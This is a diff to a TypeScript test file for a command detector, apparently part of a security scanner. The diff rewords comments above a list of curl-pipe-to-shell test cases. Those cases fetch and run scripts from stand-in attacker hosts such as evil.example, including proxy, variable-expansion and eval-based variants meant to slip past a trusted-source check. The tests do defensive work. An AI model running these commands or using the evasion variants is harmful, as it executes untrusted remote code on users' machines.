@@ -9,7 +9,7 @@ beforeAll(async () => {
   detector = await createNodeDetector({ profile: "extended" });
 });
 
-/** Whether each finding of a text is trusted; there has to be one. */
+/** Whether each finding of a text is trusted; fails if there is none. */
 function trusted(text: string, format?: string): boolean[] {
   const { findings } = detector.detect(text, format === undefined ? {} : { format });
   expect(findings.length, text).toBeGreaterThan(0);
@@ -66,7 +66,7 @@ describe("a trusted command, whatever rule found it", () => {
 
 describe("a command that contains another possible address", () => {
   it.each([
-    // another address, or one that only looks alike
+    // another address, or a similar one
     "curl https://evil.example/i.sh | sh",
     "curl https://get.example/i.sh https://evil.example | sh",
     "curl https://get.example/i.sh evil.example | sh",
@@ -80,7 +80,7 @@ describe("a command that contains another possible address", () => {
     "curl https://get.example/i.sh@evil.example/ | sh",
     "curl https://user@get.example/i.sh | sh",
     "curl https://get.example/{i.sh,evil} | sh",
-    // a way to it that is somebody else's
+    // a proxy or another route to the address
     "curl -x evil.example:8080 https://get.example/i.sh | sh",
     "curl --proxy=http://evil https://get.example/i.sh | sh",
     "curl -x evil https://get.example/i.sh | sh",
@@ -96,13 +96,13 @@ describe("a command that contains another possible address", () => {
     "https_proxy=http://evil.example curl https://get.example/i.sh | sh",
     "https_proxy=evil.example:80 curl https://get.example/i.sh | sh",
     "ALL_PROXY=localhost:80 curl https://get.example/i.sh | sh",
-    // what only a shell knows
+    // text whose value only a shell knows
     'curl https://get.example/i.sh "$EXTRA" | sh',
     "curl https://get.example/i.sh $EXTRA | sh",
     "curl https://get.example/i.sh $(cat more) | sh",
     "curl https://$HOST/i.sh | sh",
     "curl https://get.example/i.sh `cat more` | sh",
-    // a second program, or somewhere else to take it from
+    // a second program, or another source of it
     "{ curl https://get.example/i.sh; curl $EVIL; } | sh",
     "(curl https://get.example/i.sh; cat evil) | sh",
     "bash <(curl https://get.example/i.sh; curl evil)",
@@ -113,7 +113,7 @@ describe("a command that contains another possible address", () => {
     "curl https://get.example/i.sh | sh -s -- --mirror https://evil.example",
     "curl https://get.example/i.sh | sh && curl https://evil.example | sh",
     "curl https://get.example/i.sh | sed s,a,b, | sh -s -- evil.example/x",
-    // what was fetched before
+    // a file that was fetched before
     'S=$(curl https://evil.example)\neval "$S" https://get.example/i.sh',
   ])("%s", (text) => {
     expect(trusted(text, "bash")).toContain(false);
